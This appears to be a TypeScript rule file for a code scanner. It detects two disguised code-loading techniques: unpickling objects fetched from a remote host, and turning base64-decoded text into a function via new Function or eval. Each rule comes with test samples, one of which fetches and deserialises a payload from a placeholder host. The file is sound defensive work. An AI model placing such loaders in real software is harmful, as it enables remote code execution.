/** RC-02: code in disguise: objects loaded from a host, a decoded text that becomes a function. */
import {
  capture,
  again,
  chars,
  code,
  edge,
  gap,
  letters,
  maybe,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  times,
} from '../../engine/pattern.ts';
import { inFile } from '../../engine/example.ts';
import { row, type Row } from '../../engine/rule.ts';

export const loaders: readonly Row[] = [
  row('serialised objects that may contain code are loaded from a host', {
    in: ['script', 'fence', 'decoded'],
    within: 'line',
    match: pattern(
      edge,
      oneOf('pickle', 'cPickle', 'dill', 'cloudpickle', 'marshal', 'joblib'),
      '.load(s)',
      code('('),
      gap(60),
      oneOf('urlopen', 'requests.get', 'httpx.get', 'urllib', '.recv'),
    ),
    catches: [
      inFile(
        'scripts/a.py',
        'import pickle, urllib.request',
        "t = pickle.loads(urllib.request.urlopen('https://t.invalid/m').read())",
      ),
    ],
    spares: [inFile('scripts/a.py', 'import pickle', 't = pickle.loads(cache.read_bytes())')],
  }),
  row('decoded text becomes a function', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: pattern(
      edge,
      capture(letters(1, 30)),
      space(0, 3),
      '=',
      space(0, 3),
      oneOf(seq(code('Buffer.from('), gap(4000), quote, 'base64', quote), code('atob(')),
      times(0, 400, chars('\\s\\S')),
      oneOf(
        seq('new Function', code('('), maybe(gap(60), ',', space(0, 3))),
        seq(edge, oneOf('eval', 'vm.runIn(This|New)Context'), code('(')),
      ),
      space(0, 3),
      again(1),
      edge,
    ),
    catches: [
      inFile(
        'scripts/a.js',
        "const f = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();",
        "new Function('require', f)(require);",
      ),
    ],
    spares: [
      inFile(
        'scripts/a.js',
        "const f = Buffer.from('Y29uc29sZQ==', 'base64').toString();",
        'console.log(f);',
      ),
    ],
  }),
];
